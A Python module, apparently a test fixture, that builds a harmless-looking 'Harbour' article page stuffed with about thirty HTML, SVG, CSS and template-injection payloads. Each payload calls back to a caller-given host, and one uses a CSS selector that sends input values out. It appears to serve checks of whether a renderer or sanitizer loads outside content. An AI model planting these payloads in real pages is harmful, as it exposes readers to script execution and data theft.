"""A page made to run something, or to have something loaded, wherever it is shown."""

from __future__ import annotations


def markup(address: str) -> tuple[str, ...]:
    """Pieces of markup that reach for `address` (host:port), each in another way."""
    url = f"http://{address}/"
    return (
        f"<script>fetch('{url}script')</script>",
        f"<script src={url}src></script>",
        f"<script type=module>import('{url}module')</script>",
        f'<script type="speculationrules">{{"prefetch":[{{"source":"list","urls":["{url}spec"]}}]}}</script>',
        f"<img src={url}img srcset='{url}srcset 2x' onerror=\"fetch('{url}onerror')\">",
        f"<img src=x onerror=\"new Image().src='{url}image'\">",
        f"<picture><source srcset={url}source><img></picture>",
        f"<svg onload=\"fetch('{url}svg')\"><script href={url}svgscript></script><image href={url}svgimage />"
        f"<use href={url}use#a /><foreignObject><iframe src={url}foreign></iframe></foreignObject></svg>",
        f"<math><mtext><img src={url}math></mtext></math>",
        f"<style>@import '{url}import'; body {{ background: url({url}css) }} "
        f"@font-face {{ font-family: x; src: url({url}font) }} * {{ font-family: x }} "
        f'input[value^="a"] {{ background: url({url}exfiltrated) }}</style>',
        f'<p style="background: url({url}inline)">styled</p><input value="abc" autofocus onfocus="fetch(\'{url}f\')">',
        f"<link rel=stylesheet href={url}sheet><link rel=preload as=image href={url}preload>"
        f"<link rel=prefetch href={url}prefetch><link rel=preconnect href={url}><link rel=dns-prefetch href={url}>"
        f"<link rel=modulepreload href={url}mp><link rel=icon href={url}icon><link rel=manifest href={url}manifest>",
        f'<meta http-equiv="refresh" content="0; url={url}refresh">',
        f'<meta http-equiv="Link" content="<{url}>; rel=preconnect">',
        f"<iframe src={url}iframe></iframe>",
        f"<iframe srcdoc=\"<script>fetch('{url}srcdoc')</script><img src={url}sd>\"></iframe>",
        f"<object data={url}object></object><embed src={url}embed><applet code={url}applet></applet>",
        f"<video src={url}video poster={url}poster autoplay></video><audio src={url}audio autoplay></audio>",
        f"<video><source src={url}media><track default src={url}track></video>",
        f"<body background={url}background onload=\"fetch('{url}onload')\">",
        f"<table background={url}table><td background={url}cell>cell</table>",
        f"<form action={url}form><button autofocus>go</button><input type=image src={url}input></form>",
        f"<a href=\"javascript:fetch('{url}js')\" ping={url}ping>a link</a>",
        f'<a href="data:text/html,<script>fetch(%27{url}data%27)</script>">data</a>',
        f"<base href={url}base/><img src=relative>",
        f"<noscript><img src={url}noscript></noscript><template><img src={url}template></template>",
        f"<details open ontoggle=\"fetch('{url}toggle')\"><summary>more</summary></details>",
        f'"><img src={url}quoted>',
        f"'><img src={url}single>",
        f"--><img src={url}comment>",
        f"</title></style></textarea></script><img src={url}closed>",
        f"{{{{ ''.__class__ }}}} {{% include 'x' %}} ${{fetch('{url}template')}}",
        "\u202e<b>turned</b>\u2066\x00\x1b[31m\x85",
    )


def page(address: str) -> bytes:
    """All of it, as the body of an article's page."""
    pieces = "\n".join(f"<p>The harbour counted its ships, sentence {n}.</p>{m}" for n, m in enumerate(markup(address)))
    return f"<html><head><title>Harbour</title>{pieces}</head><body><article>{pieces}</article></body></html>".encode()
